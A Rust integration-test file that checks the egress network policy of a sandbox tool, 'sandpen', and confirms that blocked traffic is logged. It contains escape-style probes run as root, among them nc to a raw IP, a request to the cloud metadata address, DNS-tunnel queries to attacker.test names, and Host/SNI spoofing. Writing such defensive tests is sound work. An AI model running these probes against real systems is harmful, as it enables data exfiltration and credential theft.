@@ -1,0 +1,506 @@
+//! End-to-end egress tests: every rule attacked from inside a real guest, as
+//! root, against real servers on the host's loopback (reached as `*.test` names
+//! through `--add-host`). Each test reads the network log and compares the
+//! proxy's decision with `sandpen policy check`.
+
+use std::io::{BufRead, BufReader};
+use std::path::PathBuf;
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use libtest_mimic::{Arguments, Failed, Trial};
+
+const NAME: &str = "egress";
+
+struct Env {
+    bin: PathBuf,
+    state: tempfile::TempDir,
+    config: tempfile::TempDir,
+    data: PathBuf,
+    root: tempfile::TempDir,
+    ws: PathBuf,
+    http_port: u16,
+    tls_port: u16,
+    servers: std::sync::Mutex<Child>,
+}
+
+/// An HTTP and an HTTPS server (self-signed for allowed.test) on 127.0.0.1,
+/// logging every request path to `requests.log`.
+const SERVERS: &str = r#"
+import http.server, ssl, sys, threading, os
+root = sys.argv[1]
+log = open(os.path.join(root, "requests.log"), "a", buffering=1)
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        log.write(self.path + "\n")
+        body = ("hello " + self.server.name + " " + self.path + "\n").encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *a):
+        pass
+plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+plain.name = "plain"
+tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+tls.name = "tls"
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(os.path.join(root, "cert.pem"), os.path.join(root, "key.pem"))
+tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
+for s in (plain, tls):
+    threading.Thread(target=s.serve_forever, daemon=True).start()
+print(plain.server_address[1], tls.server_address[1], flush=True)
+threading.Event().wait()
+"#;
+
+fn env() -> &'static Env {
+    static ENV: OnceLock<Env> = OnceLock::new();
+    ENV.get_or_init(|| {
+        let data = std::env::var_os("SANDPEN_TEST_DATA_HOME")
+            .map(PathBuf::from)
+            .unwrap_or_else(|| {
+                PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/tmp".into()))
+                    .join(".cache/sandpen-test")
+            });
+        let root = tempfile::Builder::new()
+            .prefix("sandpen-egress-")
+            .tempdir()
+            .unwrap();
+        let ws = root.path().join(NAME);
+        std::fs::create_dir(&ws).unwrap();
+        let status = Command::new("openssl")
+            .args([
+                "req",
+                "-x509",
+                "-newkey",
+                "rsa:2048",
+                "-nodes",
+                "-days",
+                "2",
+                "-subj",
+                "/CN=allowed.test",
+            ])
+            .args(["-addext", "subjectAltName=DNS:allowed.test"])
+            .arg("-keyout")
+            .arg(root.path().join("key.pem"))
+            .arg("-out")
+            .arg(root.path().join("cert.pem"))
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .expect("openssl");
+        assert!(status.success(), "making the test certificate");
+        let mut servers = Command::new("python3")
+            .arg("-c")
+            .arg(SERVERS)
+            .arg(root.path())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("python3");
+        let mut line = String::new();
+        BufReader::new(servers.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        let ports: Vec<u16> = line
+            .split_whitespace()
+            .map(|p| p.parse().unwrap())
+            .collect();
+        Env {
+            bin: PathBuf::from(env!("CARGO_BIN_EXE_sandpen")),
+            state: tempfile::Builder::new()
+                .prefix("sandpen-state-")
+                .tempdir()
+                .unwrap(),
+            config: tempfile::Builder::new()
+                .prefix("sandpen-config-")
+                .tempdir()
+                .unwrap(),
+            data,
+            ws: ws.canonicalize().unwrap(),
+            root,
+            http_port: ports[0],
+            tls_port: ports[1],
+            servers: std::sync::Mutex::new(servers),
+        }
+    })
+}
+
+fn sandpen(args: &[&str]) -> Output {
+    let e = env();
+    Command::new(&e.bin)
+        .args(args)
+        .current_dir(&e.ws)
+        .env("XDG_STATE_HOME", e.state.path())
+        .env("XDG_DATA_HOME", &e.data)
+        .env("XDG_CONFIG_HOME", e.config.path())
+        .env_remove("SANDPEN_ACCEL")
+        .stdin(Stdio::null())
+        .output()
+        .expect("running sandpen")
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+fn check(cond: bool, what: impl Into<String>) -> Result<(), Failed> {
+    if cond {
+        Ok(())
+    } else {
+        Err(what.into().into())
+    }
+}
+
+fn ok(args: &[&str]) -> Result<String, Failed> {
+    let out = sandpen(args);
+    check(
+        out.status.success(),
+        format!(
+            "sandpen {args:?}: {:?}\n{}{}",
+            out.status.code(),
+            text(&out.stdout),
+            text(&out.stderr)
+        ),
+    )?;
+    Ok(text(&out.stdout))
+}
+
+/// Runs `sh` in the guest as root; returns (exit code, stdout + stderr).
+fn guest(sh: &str) -> (i32, String) {
+    let out = sandpen(&["exec", "-u", "root", NAME, "--", "sh", "-c", sh]);
+    (
+        out.status.code().unwrap_or(-1),
+        text(&out.stdout) + &text(&out.stderr),
+    )
+}
+
+fn requests_seen() -> String {
+    std::fs::read_to_string(env().root.path().join("requests.log")).unwrap_or_default()
+}
+
+/// The newest log record for `host:port`, waiting briefly for it to be written.
+fn last_record(host: &str, port: u16) -> Result<serde_json::Value, Failed> {
+    let deadline = Instant::now() + Duration::from_secs(5);
+    loop {
+        let out = ok(&["policy", "log", NAME, "--json", "--limit", "1000"])?;
+        let found = out
+            .lines()
+            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+            .filter(|r| r["host"] == host && r["port"] == port)
+            .last();
+        if let Some(r) = found {
+            return Ok(r);
+        }
+        if Instant::now() > deadline {
+            return Err(format!("no log record for {host}:{port}:\n{out}").into());
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// `policy check` must say what the proxy did.
+fn check_agrees(host: &str, port: u16, proxy_decision: &str) -> Result<(), Failed> {
+    let out = sandpen(&[
+        "policy",
+        "check",
+        "network",
+        &format!("{host}:{port}"),
+        NAME,
+    ]);
+    let said = text(&out.stdout);
+    let expected_word = match proxy_decision {
+        "allow" => "allowed",
+        "deny" => "denied",
+        _ => "would deny",
+    };
+    check(
+        said.contains(expected_word),
+        format!("policy check says {said:?}, the proxy did {proxy_decision}"),
+    )
+}
+
+/// Creates and starts the sandbox once, whichever test runs first.
+fn ready() -> Result<(), Failed> {
+    static READY: OnceLock<Result<(), String>> = OnceLock::new();
+    READY
+        .get_or_init(|| setup().map_err(|e| format!("setting up the sandbox: {e:?}")))
+        .clone()
+        .map_err(Failed::from)
+}
+
+fn setup() -> Result<(), Failed> {
+    let e = env();
+    ok(&["policy", "init", "deny-all"])?;
+    ok(&[
+        "create",
+        "--cpus",
+        "1",
+        "--memory",
+        "1G",
+        "--add-host",
+        "allowed.test:127.0.0.1",
+        "--add-host",
+        "denied.test:127.0.0.1",
+    ])?;
+    ok(&["policy", "allow", "network", "allowed.test", NAME])?;
+    ok(&["policy", "deny", "network", "denied.test", NAME])?;
+    ok(&["policy", "allow", "network", "localhost", NAME])?;
+    ok(&["start", NAME])?;
+    let _ = e;
+    Ok(())
+}
+
+fn allowed_https_through_both_paths() -> Result<(), Failed> {
+    ready()?;
+    let port = env().tls_port;
+    let (code, out) = guest(&format!(
+        "curl -sS -k -m 10 https://allowed.test:{port}/via-proxy"
+    ));
+    check(
+        code == 0 && out.contains("hello tls /via-proxy"),
+        format!("HTTPS_PROXY path: {code} {out}"),
+    )?;
+    let (code, out) = guest(&format!(
+        "curl -sS -k -m 10 --noproxy '*' https://allowed.test:{port}/transparent"
+    ));
+    check(
+        code == 0 && out.contains("hello tls /transparent"),
+        format!("transparent path: {code} {out}"),
+    )?;
+    let r = last_record("allowed.test", port)?;
+    check(
+        r["decision"] == "allow" && r["mode"] == "transparent",
+        format!("{r}"),
+    )?;
+    check_agrees("allowed.test", port, "allow")
+}
+
+fn denied_host_is_refused_and_logged_with_its_rule() -> Result<(), Failed> {
+    ready()?;
+    let port = env().tls_port;
+    let before = requests_seen();
+    let (code, _) = guest(&format!(
+        "curl -sS -k -m 10 --noproxy '*' https://denied.test:{port}/x"
+    ));
+    check(code != 0, "curl to denied.test succeeded")?;
+    let r = last_record("denied.test", port)?;
+    check(r["decision"] == "deny", format!("{r}"))?;
+    check(
+        r["rule"]
+            .as_str()
+            .unwrap_or("")
+            .contains("deny denied.test"),
+        format!("rule not named: {r}"),
+    )?;
+    check(requests_seen() == before, "the server saw a request")?;
+    check_agrees("denied.test", port, "deny")
+}
+
+fn raw_ip_without_a_rule_is_denied() -> Result<(), Failed> {
+    ready()?;
+    let (code, _) = guest("echo hi | nc -w 3 203.0.113.7 9999");
+    let r = last_record("203.0.113.7", 9999)?;
+    check(r["decision"] == "deny", format!("{r}"))?;
+    let _ = code;
+    let (_, _) = guest("curl -sS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/");
+    let r = last_record("169.254.169.254", 80)?;
+    check(r["decision"] == "deny", format!("metadata address: {r}"))?;
+    check_agrees("203.0.113.7", 9999, "deny")?;
+    check_agrees("169.254.169.254", 80, "deny")
+}
+
+fn a_name_resolving_to_loopback_is_denied_and_nothing_arrives() -> Result<(), Failed> {
+    ready()?;
+    let port = env().http_port;
+    // The guest's own `localhost` is its loopback, so the name goes to the host
+    // through the proxy port, where the host resolves it to 127.0.0.1.
+    let (code, _) = guest(&format!(
+        "curl -sS -f -m 5 --noproxy '' -x http://127.0.0.1:3128 http://localhost:{port}/must-not-arrive"
+    ));
+    check(code != 0, "curl through the proxy to localhost succeeded")?;
+    let tls = env().tls_port;
+    let (code, _) = guest(&format!(
+        "curl -sS -k -m 5 --noproxy '' -x http://127.0.0.1:3128 https://localhost:{tls}/must-not-arrive-either"
+    ));
+    check(code != 0, "CONNECT to localhost succeeded")?;
+    check(
+        !requests_seen().contains("must-not-arrive"),
+        "the loopback server was reached",
+    )?;
+    let r = last_record("localhost", port)?;
+    check(
+        r["decision"] == "deny"
+            && r["reason"]
+                .as_str()
+                .unwrap_or("")
+                .contains("blocked-address"),
+        format!("{r}"),
+    )?;
+    check_agrees("localhost", port, "deny")
+}
+
+fn sni_mismatch_is_denied() -> Result<(), Failed> {
+    ready()?;
+    let port = env().tls_port;
+    let (_, out) = guest(&format!(
+        "echo | timeout 10 openssl s_client -connect allowed.test:{port} -servername denied.test 2>&1 | head -5"
+    ));
+    let r = last_record("allowed.test", port)?;
+    check(
+        r["decision"] == "deny" && r["reason"].as_str().unwrap_or("").contains("sni-mismatch"),
+        format!("{r}\n{out}"),
+    )
+}
+
+fn host_header_mismatch_is_denied() -> Result<(), Failed> {
+    ready()?;
+    let port = env().http_port;
+    let before = requests_seen();
+    let (_, out) = guest(&format!(
+        "curl -sS -m 5 --noproxy '*' -H 'Host: denied.test' http://allowed.test:{port}/host-mismatch"
+    ));
+    let r = last_record("allowed.test", port)?;
+    check(
+        r["decision"] == "deny" && r["reason"].as_str().unwrap_or("").contains("host-mismatch"),
+        format!("{r}\n{out}"),
+    )?;
+    check(
+        requests_seen() == before,
+        "the server saw the mismatched request",
+    )
+}
+
+fn no_dns_tunnel_and_no_udp_out() -> Result<(), Failed> {
+    ready()?;
+    let (_, out) = guest("dig +time=2 +tries=1 TXT x.attacker.test");
+    check(
+        out.contains("REFUSED") && !out.contains("ANSWER: 1"),
+        format!("TXT: {out}"),
+    )?;
+    let (_, out) = guest("dig +time=2 +tries=1 A data.attacker.test");
+    check(
+        out.contains("198.18.") || out.contains("198.19."),
+        format!("A should get a synthetic address: {out}"),
+    )?;
+    let (code, out) = guest("dig +time=2 +tries=1 @8.8.8.8 example.com");
+    check(
+        code != 0 || out.contains("timed out"),
+        format!("UDP to 8.8.8.8 answered: {out}"),
+    )?;
+    let log = ok(&["policy", "log", NAME, "--json", "--limit", "1000"])?;
+    check(
+        !log.contains("8.8.8.8") && !log.contains("attacker.test"),
+        format!("the host saw it: {log}"),
+    )
+}
+
+fn ipv6_fails() -> Result<(), Failed> {
+    ready()?;
+    let (code, _) = guest("curl -sS -m 5 -6 --noproxy '*' http://[2001:db8::1]/");
+    check(code != 0, "IPv6 connection succeeded")?;
+    let (code, _) = guest("nc -6 -w 3 2001:db8::1 80 </dev/null");
+    check(code != 0, "IPv6 nc succeeded")
+}
+
+fn learn_mode_lets_through_and_logs_would_deny() -> Result<(), Failed> {
+    ready()?;
+    let port = env().http_port;
+    ok(&["policy", "mode", "learn", NAME])?;
+    let (code, out) = guest(&format!(
+        "curl -sS -m 10 --noproxy '*' http://denied.test:{port}/learned"
+    ));
+    ok(&["policy", "mode", "enforce", NAME])?;
+    check(
+        code == 0 && out.contains("hello plain /learned"),
+        format!("learn mode blocked: {code} {out}"),
+    )?;
+    let r = last_record("denied.test", port)?;
+    check(r["decision"] == "would-deny", format!("{r}"))?;
+    // And back in enforce mode it is denied again.
+    let (code, _) = guest(&format!(
+        "curl -sS -f -m 10 --noproxy '*' http://denied.test:{port}/enforced"
+    ));
+    check(code != 0, "enforce mode let it through")
+}
+
+fn malformed_policy_names_the_line_and_blocks_start() -> Result<(), Failed> {
+    ready()?;
+    ok(&["stop", NAME])?;
+    let path = env()
+        .state
+        .path()
+        .join(format!("sandpen/sandboxes/{NAME}/policy.toml"));
+    let good = std::fs::read_to_string(&path)?;
+    std::fs::write(
+        &path,
+        format!("{good}\n[[network]]\naction = \"allow\"\ntarget = \n"),
+    )?;
+    let out = sandpen(&["start", NAME]);
+    let err = text(&out.stderr);
+    std::fs::write(&path, good)?;
+    check(
+        out.status.code() == Some(125),
+        format!("start with a bad policy: {:?} {err}", out.status.code()),
+    )?;
+    check(
+        err.contains("policy.toml:") && err.trim().lines().count() == 1,
+        format!("no line number: {err}"),
+    )?;
+    let state = ok(&["ls", "--json"])?;
+    check(
+        state.contains("\"stopped\""),
+        format!("it started anyway: {state}"),
+    )
+}
+
+type TestFn = fn() -> Result<(), Failed>;
+
+fn main() {
+    let args = Arguments {
+        test_threads: Some(1),
+        ..Arguments::from_args()
+    };
+    let tests: Vec<(&str, TestFn)> = vec![
+        (
+            "allowed_https_through_both_paths",
+            allowed_https_through_both_paths,
+        ),
+        (
+            "denied_host_is_refused_and_logged_with_its_rule",
+            denied_host_is_refused_and_logged_with_its_rule,
+        ),
+        (
+            "raw_ip_without_a_rule_is_denied",
+            raw_ip_without_a_rule_is_denied,
+        ),
+        (
+            "a_name_resolving_to_loopback_is_denied_and_nothing_arrives",
+            a_name_resolving_to_loopback_is_denied_and_nothing_arrives,
+        ),
+        ("sni_mismatch_is_denied", sni_mismatch_is_denied),
+        (
+            "host_header_mismatch_is_denied",
+            host_header_mismatch_is_denied,
+        ),
+        ("no_dns_tunnel_and_no_udp_out", no_dns_tunnel_and_no_udp_out),
+        ("ipv6_fails", ipv6_fails),
+        (
+            "learn_mode_lets_through_and_logs_would_deny",
+            learn_mode_lets_through_and_logs_would_deny,
+        ),
+        (
+            "malformed_policy_names_the_line_and_blocks_start",
+            malformed_policy_names_the_line_and_blocks_start,
+        ),
+    ];
+    let trials = tests.into_iter().map(|(n, f)| Trial::test(n, f)).collect();
+    let conclusion = libtest_mimic::run(&args, trials);
+    let _ = sandpen(&["rm", "-f", NAME]);
+    if let Ok(mut s) = env().servers.lock() {
+        let _ = s.kill();
+        let _ = s.wait();
+    }
+    conclusion.exit();
+}
